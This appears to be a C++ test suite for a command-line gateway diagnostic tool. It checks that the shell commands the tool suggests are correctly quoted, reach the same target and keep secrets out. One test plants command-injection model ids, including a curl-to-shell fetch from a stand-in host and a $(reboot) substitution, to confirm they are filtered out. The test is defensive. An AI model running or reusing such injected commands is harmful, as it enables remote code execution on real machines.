// Suggested commands ("Try:", JSON "commands") check the same target again when pasted into
// a shell: same base URL, profile or profile file, config and target, CA bundle and key
// source, with the one changed value; never the key; every outside word quoted.
#include <catch2/catch.hpp>

#include <filesystem>
#include <fstream>

#include "support/certs.hpp"
#include "support/doctor.hpp"

using namespace support;

namespace {

std::string first_command(const Run& run) {
  auto commands = run.json()["diagnosis"]["commands"];
  REQUIRE_FALSE(commands.empty());
  return commands[0].get<std::string>();
}

// How many chat requests asked for this model: proves which gateway a command reached.
int asked_for(const fake::Server& server, const std::string& model) {
  int n = 0;
  for (const auto& r : server.received())
    if (r.body.find("\"model\":\"" + model + "\"") != std::string::npos) ++n;
  return n;
}

}  // namespace

TEST_CASE("suggestions: a pasted command checks the same TLS gateway, profile file, CA and key file") {
  fake::Server server(fake::scenario("model-disabled"), fake::TlsFiles{certs().good_cert, certs().good_key});
  TempDir dir;
  std::filesystem::create_directories(dir.path() + "/my keys");
  const std::string key_file = private_file(dir, "my keys/it's.key", std::string(fake::kGoodKey) + "\n");
  const std::string profile = fake_profile(dir, server);
  Run run = run_doctor({"check", "--format", "json", "--base-url", server.base_url(), "--profile-file",
                        profile, "--cacert", certs().ca, "--api-key-file", key_file});
  INFO(run.out << run.err);
  REQUIRE(run.exit_code == 1);
  REQUIRE(run.json()["diagnosis"]["category"] == "MODEL_DISABLED");
  const std::string cmd = first_command(run);
  INFO(cmd);
  CHECK(cmd.rfind(std::string(ANLINK_DOCTOR_BIN) + " check ", 0) == 0);  // the program as run
  CHECK(cmd.find("--base-url " + server.base_url()) != std::string::npos);
  CHECK(cmd.find("--profile-file " + profile) != std::string::npos);
  CHECK(cmd.find("--cacert " + certs().ca) != std::string::npos);
  CHECK(cmd.find("'\\''") != std::string::npos);  // the key file's quote, quoted for the shell
  CHECK(cmd.find("--model qwen-plus") != std::string::npos);

  // Pasted into a shell with nothing in the environment, it reaches the same gateway.
  const int before = asked_for(server, "qwen-plus");
  Run again = run_shell(cmd + " --format json");
  INFO(again.out << again.err);
  CHECK(again.exit_code == 0);
  CHECK(again.json()["target"]["base_url"] == server.base_url());
  CHECK(again.json()["target"]["model"] == "qwen-plus");
  CHECK(asked_for(server, "qwen-plus") > before);
}

TEST_CASE("suggestions: values taken from the environment are written out as flags") {
  fake::Server server(fake::scenario("model-disabled"));
  Run run = run_doctor({"check", "--format", "json"},
                       {{"ANLINKAI_API_KEY", fake::kGoodKey}, {"ANLINKAI_BASE_URL", server.base_url()},
                        {"ANLINKAI_PROFILE", "anlinkai"}, {"ANLINKAI_MODEL", "qwen-flash"}});
  REQUIRE(run.exit_code == 1);
  const std::string cmd = first_command(run);
  INFO(cmd);
  CHECK(cmd.find("--base-url " + server.base_url()) != std::string::npos);
  CHECK(cmd.find("--profile anlinkai") != std::string::npos);
  CHECK(cmd.find("--model qwen-flash") == std::string::npos);  // the changed value replaces it
  CHECK(cmd.find("--api-key") == std::string::npos);  // the variable is read again as it was
  Run again = run_shell(cmd + " --format json", key_env());
  CHECK(again.exit_code == 0);
  CHECK(again.json()["target"]["base_url"] == server.base_url());
}

TEST_CASE("suggestions: a config file's target and a key from stdin are repeated") {
  fake::Server server(fake::scenario("model-disabled"));
  TempDir dir;
  const std::string config = private_file(
      dir, "config.json",
      R"({"targets": {"lab": {"base_url": ")" + server.base_url() + R"(", "model": "qwen-flash"}}})");
  Run run = run_doctor({"check", "--format", "json", "--config", config, "--target", "lab", "--api-key", "-"},
                       {}, std::string(fake::kGoodKey) + "\n");
  REQUIRE(run.exit_code == 1);
  const std::string cmd = first_command(run);
  INFO(cmd);
  CHECK(cmd.find("--config " + config + " --target lab") != std::string::npos);
  CHECK(cmd.find("--api-key -") != std::string::npos);
  CHECK(cmd.find("--base-url") == std::string::npos);  // the target names it
  Run again = run_shell(cmd + " --format json", {}, std::string(fake::kGoodKey) + "\n");
  CHECK(again.exit_code == 0);
  CHECK(again.json()["target"]["base_url"] == server.base_url());
}

TEST_CASE("suggestions: a base URL fix keeps the profile and the key source") {
  fake::Server server(fake::scenario("healthy"));
  TempDir dir;
  const std::string key_file = private_file(dir, "key", fake::kGoodKey);
  Run run = run_doctor({"check", "--format", "json", "--base-url", server.origin(), "--profile", "anlinkai",
                        "--api-key-file", key_file});
  REQUIRE(run.exit_code == 1);
  const std::string cmd = first_command(run);
  INFO(cmd);
  CHECK(cmd.find("--base-url " + server.base_url()) != std::string::npos);
  CHECK(cmd.find("--base-url " + server.origin() + " ") == std::string::npos);  // replaced, not repeated
  CHECK(cmd.find("--profile anlinkai") != std::string::npos);
  CHECK(cmd.find("--api-key-file " + key_file) != std::string::npos);
  CHECK(run_shell(cmd + " --format json").exit_code == 0);
}

TEST_CASE("suggestions: model ids a server chose are suggested only when plausible") {
  fake::Config config = fake::scenario("model-disabled");
  config.models = {{"qwen-flash", "disabled"},
                   {"qwen-flash; curl -s http://evil.example/p.sh | sh #", "active"},
                   {"qwen-flash$(reboot)", "active"},
                   {"-qwen-flash", "active"},
                   {"glm-4.5", "active"}};
  fake::Server server(config);
  Run run = check_json(server.base_url());
  INFO(run.out);
  auto commands = run.json()["diagnosis"]["commands"];
  REQUIRE(commands.size() == 1);
  CHECK(commands[0].get<std::string>().find("--model glm-4.5") != std::string::npos);
  CHECK_FALSE(any_contains(commands, "evil"));
  CHECK_FALSE(any_contains(commands, "reboot"));
}

TEST_CASE("suggestions: the text report shows one specific switch, no duplicate, no unjudged note") {
  fake::Server server(fake::scenario("model-disabled"));
  Run run = run_doctor({"check", "--base-url", server.base_url()}, key_env());
  INFO(run.out);
  CHECK(run.exit_code == 1);
  CHECK(run.out.find("• Switch to an active model: \"qwen-plus\"") != std::string::npos);
  CHECK(run.out.find("Switch to an active model for test traffic") == std::string::npos);
  CHECK(run.out.find("went out ahead") == std::string::npos);
  CHECK(run.out.find(" check --base-url " + server.base_url() + " --model qwen-plus") != std::string::npos);
  CHECK(run.out.find("balance   skipped: the anlinkai profile has no balance endpoint, and the probe it "
                     "would be judged from was not sent (prerequisite model failed)") != std::string::npos);
  Run verbose = run_doctor({"check", "-v", "--base-url", server.base_url()}, key_env());
  CHECK(verbose.out.find("its request went out ahead; the answer was not judged") != std::string::npos);
}

TEST_CASE("an unknown command is named, with the closest one") {
  Run run = run_doctor({"chek", "--model", "x"});
  CHECK(run.exit_code == 2);
  CHECK(run.err.find("unknown command \"chek\", did you mean \"check\"?") != std::string::npos);
  Run far = run_doctor({"frobnicate"});
  CHECK(far.exit_code == 2);
  CHECK(far.err.find("unknown command \"frobnicate\" (commands: check, explain") != std::string::npos);
}

TEST_CASE("suggestions: a command keeps the run's headers, a secret one through its variable, else a note") {
  fake::Config config = fake::scenario("shape-portkey-no-provider");  // 400 without x-portkey-provider
  config.models[0].status = "disabled";
  fake::Server server(config);
  const std::string team = "tk-team-9f8e7d6c5b4a3210";          // typed as the shell expanded $TEAM_KEY
  const std::string typed = "vk-typed-only-1a2b3c4d5e6f7a8b";   // in no variable
  auto env = key_env();
  env["PK_KEY"] = "pk-live-0a1b2c3d4e5f6a7b8c9d";
  env["TEAM_KEY"] = team;
  Run run = run_doctor({"check", "--format", "json", "--base-url", server.base_url(), "--header",
                        "x-portkey-provider: openai", "--header", "x-portkey-api-key: ${PK_KEY}", "--header",
                        "X-Team-Key: " + team, "--header", "x-portkey-virtual-key: " + typed},
                       env);
  INFO(run.out << run.err);
  REQUIRE(run.exit_code == 1);
  REQUIRE(run.json()["diagnosis"]["category"] == "MODEL_DISABLED");
  const std::string cmd = first_command(run);
  INFO(cmd);
  CHECK(cmd.find("--header 'x-portkey-provider: openai'") != std::string::npos);  // no secret: as given
  CHECK(cmd.find("--header 'x-portkey-api-key: ${PK_KEY}'") != std::string::npos);  // its variable
  CHECK(cmd.find("--header 'X-Team-Key: ${TEAM_KEY}'") != std::string::npos);  // the variable that holds it
  CHECK(cmd.find("virtual-key") == std::string::npos);
  CHECK(any_contains(run.json()["diagnosis"]["fixes"], "--header 'x-portkey-virtual-key: VALUE'"));

  // Pasted, it sends the same headers (the secret ones read from the environment again).
  Run again = run_shell(cmd + " --format json", env);
  INFO(again.out << again.err);
  CHECK(again.exit_code == 0);
  const auto last = server.received().back();
  CHECK(last.headers.at("x-portkey-provider") == "openai");
  CHECK(last.headers.at("x-portkey-api-key") == env["PK_KEY"]);
  CHECK(last.headers.at("x-team-key") == team);

  // --header reads ${VAR} as a profile's headers do: one that is not set is a usage error.
  Run unset = run_doctor({"check", "--base-url", server.base_url(), "--header", "X-Api-Key: ${ANLINK_NOT_SET}"},
                         key_env());
  CHECK(unset.exit_code == 2);
  CHECK(unset.err.find("--header X-Api-Key: ${ANLINK_NOT_SET} is not set in the environment") != std::string::npos);
}

TEST_CASE("suggestions: a header value that is a common word is no secret: the profile's name stays readable") {
  fake::Server server(fake::scenario("model-disabled"));
  for (const std::string format : {"json", "text"}) {
    Run run = run_doctor({"check", "--format", format, "--base-url", server.base_url(), "--profile", "openai",
                          "--header", "x-portkey-provider: openai"},
                         key_env());
    INFO(run.out << run.err);
    CHECK(run.exit_code == 1);
    CHECK(run.out.find("profile openai") != std::string::npos);
    CHECK(run.out.find("***") == std::string::npos);
    if (format != "json") continue;
    const std::string cmd = first_command(run);
    CHECK(cmd.find("--profile openai ") != std::string::npos);
    CHECK(cmd.find("--header 'x-portkey-provider: openai'") != std::string::npos);
  }
  Run config = run_doctor({"config", "--header", "x-portkey-provider: openai", "--header", "X-Api-Key: abc"},
                          key_env());
  CHECK(config.out.find("x-portkey-provider: openai") != std::string::npos);
  CHECK(config.out.find("X-Api-Key: ***") != std::string::npos);
}
